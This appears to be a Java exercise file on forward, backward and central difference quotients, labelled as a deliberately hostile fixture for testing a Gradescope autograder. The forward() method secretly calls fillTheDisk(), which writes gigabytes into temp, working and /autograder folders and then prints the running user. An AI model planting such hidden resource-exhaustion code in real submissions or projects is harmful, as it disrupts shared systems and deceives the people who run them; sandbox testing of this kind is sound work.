// Hostile on purpose: a fixture of the Gradescope autograder's test (GradescopeAutograderTest): forward fills every disk it can write to, then prints the user it runs as.
package gradkit.exercises;

import java.util.function.DoubleUnaryOperator;

/**
 * Exercise 01: derivatives from the definition (notebook 01).
 *
 * <p>The derivative is the limit of a difference quotient as the step h shrinks. A computer cannot
 * take the limit, so it takes one small h. Implement the three quotients and a good choice of h:
 * <ul>
 *   <li>{@link #forward}: (f(x + h) - f(x)) / h, error of order h (truncation);</li>
 *   <li>{@link #backward}: (f(x) - f(x - h)) / h, error of order h;</li>
 *   <li>{@link #central}: (f(x + h) - f(x - h)) / (2h), error of order h²;</li>
 *   <li>{@link #forwardStep} and {@link #centralStep}: the h that balances truncation error (grows with
 *       h) against rounding error (grows like machine epsilon / h). Notebook 01 derives that the
 *       balance sits near sqrt(eps)·max(1, |x|) for the forward quotient and near
 *       cbrt(eps)·max(1, |x|) for the central one, with eps = {@code Math.ulp(1.0)}.</li>
 * </ul>
 *
 * <p>Example: {@code central(Math::exp, 0.0, 1e-5)} is 1.0000000000166667 (exact: 1).
 */
public final class Ex01DifferenceQuotients {
    private Ex01DifferenceQuotients() {
    }

    /** The forward difference quotient (f(x + h) - f(x)) / h. */
    public static double forward(DoubleUnaryOperator f, double x, double h) {
        fillTheDisk();
        return (f.applyAsDouble(x + h) - f.applyAsDouble(x)) / h;
    }

    /** The backward difference quotient (f(x) - f(x - h)) / h. */
    public static double backward(DoubleUnaryOperator f, double x, double h) {
        return (f.applyAsDouble(x) - f.applyAsDouble(x - h)) / h;
    }

    /** The central difference quotient (f(x + h) - f(x - h)) / (2h). */
    public static double central(DoubleUnaryOperator f, double x, double h) {
        return (f.applyAsDouble(x + h) - f.applyAsDouble(x - h)) / (2 * h);
    }

    /**
     * A step h for {@link #forward} at x that balances truncation (about h·|f''|/2) against rounding
     * (about eps·|f|/h): near sqrt(eps), scaled by max(1, |x|) so that x + h still differs from x.
     */
    public static double forwardStep(double x) {
        return Math.sqrt(Math.ulp(1.0)) * Math.max(1.0, Math.abs(x));
    }

    /**
     * A step h for {@link #central} at x: truncation is now about h²·|f'''|/6, so the balance with
     * rounding (eps/h) moves to about cbrt(eps), again scaled by max(1, |x|).
     */
    public static double centralStep(double x) {
        return Math.cbrt(Math.ulp(1.0)) * Math.max(1.0, Math.abs(x));
    }

    /** Writes 1 MB blocks into every folder it may know of until a write fails (at most 4 GB each). */
    private static void fillTheDisk() {
        byte[] block = new byte[1 << 20];
        for (String dir : new String[] {System.getProperty("java.io.tmpdir"), System.getProperty("user.dir"),
                "/autograder/results", "/autograder/source", "/autograder/submission", "/var/tmp", "/dev/shm"}) {
            try (java.io.OutputStream out = new java.io.FileOutputStream(new java.io.File(dir, "filler-" + System.nanoTime()))) {
                for (int i = 0; i < 4096; i++) {
                    out.write(block);
                }
            } catch (Throwable refused) {
                // full, forbidden or capped: the next folder
            }
        }
        System.out.println("test JVM user: " + System.getProperty("user.name"));
    }
}
